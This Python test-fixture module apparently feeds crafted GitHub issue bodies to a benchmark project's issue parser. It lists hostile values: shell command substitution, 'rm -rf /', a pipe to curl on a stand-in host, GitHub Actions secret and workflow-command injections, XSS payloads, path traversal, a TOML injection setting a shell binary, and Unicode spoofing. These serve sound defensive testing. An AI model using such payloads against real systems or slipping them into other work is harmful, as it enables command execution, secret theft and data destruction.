"""Bodies of issues: as GitHub writes them from the form, and hostile ones."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).parents[1]
FORM = ROOT / ".github/ISSUE_TEMPLATE/benchmark.yml"
# What a source distribution has, too: the form's labels in their order.
LABELS = ("Systems", "Matrix", "Nodes", "Seeders", "Sizes", "Rounds", "Link", "Note")
SMALL = {"Systems": "http", "Matrix": "my own, as below", "Nodes": "2", "Seeders": "1", "Sizes": "1MB", "Rounds": "2"}


def form() -> dict[str, Any]:
    """The form."""
    told: dict[str, Any] = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    return told


def filled(answers: Mapping[str, str] | None = None, **more: str) -> str:
    """The body of an issue whose form was filled in so: what is not answered reads as GitHub writes it."""
    given = {**(SMALL if answers is None else answers), **more}
    return "\n\n".join(f"### {label}\n\n{given.get(label) or '_No response_'}" for label in LABELS)


# Each is put where a value belongs, one heading after the other.
HOSTILE_VALUES = (
    "$(touch /tmp/owned)",
    "`id`",
    "; rm -rf /",
    "| curl evil.example",
    "&& reboot",
    "http\x00",
    "${{ github.token }}",
    "${{ secrets.KEY }}",
    "{{workflow.parameters.file}}",
    "{{ 7*7 }}",
    "%0Ago=true",
    "::set-output name=go::true",
    "::add-mask::x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- codexbench:{} -->",
    "--> <b>",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example",
    "www.evil.example",
    "@mona",
    "@acme/everyone",
    "#1",
    "GH-1",
    "acme/bench#1",
    "| a | b |",
    "```",
    "~~~",
    "> quote",
    "- [x] http",
    "* * *",
    "http\u2028http",
    "http\x0bhttp",
    "http\x85http",
    "1MB\x0b",
    "10mbit\x0c",
    "ｈｔｔｐ",  # noqa: RUF001 - full width is the attack
    "һttp",  # noqa: RUF001 - a Cyrillic letter is the attack
    "ht\u200btp",
    "\u202eptth",
    "\ufeffhttp",
    "http\ud800",
    "٢",
    "２",  # noqa: RUF001 - full width is the attack
    "²",
    "1e1",
    "0x10",
    "1_0",
    "+2",
    "-2",
    "--matrix=full",
    "-1MB",
    "NaN",
    "inf",
    "1e400MB",
    "9" * 400,
    "9" * 30 + "GB",
    "0.0000001B",
    "0",
    "00",
    "1000000",
    "2" + ",2" * 50,
    "2,,8",
    ",",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\x",
    "mine.toml",
    "full",
    "None, None",
    "null",
    "true",
    "[2, 8]",
    '"2"',
    "'2'",
    '2"\n[systems.x]\nbin = "/bin/sh"',
    "codex.next",
    "faulty",
    "http-n02",
    "HTTP",
    "x" * 5000,
    "\t\t\t\u00a0x",
    "\x1b[31mred",
    "a\rb",
    "\n### Systems\n\ncodex",
)

# Whole bodies that ask for nothing.
HOSTILE_BODIES = (
    "",
    "\x00" * 100,
    "### ",
    "###",
    "#" * 10_000,
    "### Systems",
    "### Systems\n\n\n\n",
    "please run everything",
    "\n".join(["### Systems", ""] * 2000),
    "A" * 3_000_000,
    "\n" * 60_000,
    "### Systems\n\n" + "http, " * 30_000,
    "{" * 19_000,
    "[" * 19_000,
    "\ud800\udfff" * 1000,
    '{"systems": ["http"]}',
    filled().replace("### Systems", "## Systems"),
    filled().replace("### Systems", "#### Systems"),
    filled().replace("### Systems", " ### Systems"),
    filled().replace("### Systems", "    ### Systems"),
    filled().replace("### Systems", "###Systems"),
    filled().replace("### Systems", "###  Systems"),
    filled().replace("### Systems", "### systems"),
    filled().replace("### Systems", "### Systems ###"),
    filled().replace("### Systems", "### **Systems**"),
    filled().replace("### Systems", "Systems\n-------"),
    filled().replace("### Systems", "<h3>Systems</h3>"),
    filled().replace("### Systems", "### Ѕystems"),  # noqa: RUF001 - a Cyrillic letter is the attack
    filled().replace("### Systems", "### Sy\u00adstems"),
    "hello\n\n" + filled(),
    "<!-- " + filled() + " -->",
    "```\n" + filled() + "\n```",
    "> " + filled().replace("\n", "\n> "),
    filled() + "\n\n### Systems\n\ncodex",
    filled(Note="look:\n\n### Systems\n\ncodex"),
    filled(Note="### nodes ###\n\n32"),
    filled(Note="```\n### Nodes\n```"),
    filled(Note="x\r### Nodes\r\r32"),
    filled() + "\n\n" + filled(),
    filled().replace("### Nodes", "### Extra\n\nx\n\n### Nodes"),
    filled().replace("### Nodes", "# Nodes"),
    filled(Nodes="2\n\n8"),
    filled(Nodes="2\n8"),
    filled(Systems="http\n<!-- -->"),
    filled(Systems=""),
    filled(Systems="None"),
    filled(Sizes=""),
    filled(Nodes="2", Seeders="2"),
    filled(Matrix="smoke"),
    filled(Matrix="smoke", Sizes=""),
    filled(Rounds="2, 3"),
    filled(Link="10mbit, 100mbit"),
    filled(Systems="http, http"),
    filled(Sizes="1MB, 1000kB"),
    filled(Systems="http, ipfs", Nodes="2, 8, 16, 32", Seeders="1, 2, 4, 8", Sizes="1MB, 2MB, 3MB, 4MB"),
    filled(Nodes="32", Sizes="5GB", Rounds="20", Systems="http, ipfs, codex"),
    filled(Nodes="32", Sizes="5GB", Rounds="20", Link="1mbit"),
    filled(Sizes="5.1GB"),
    filled(Nodes="33"),
    filled(Rounds="21"),
    filled(Rounds="0"),
    filled(Link="999kbit"),
    filled(Link="11gbit"),
)
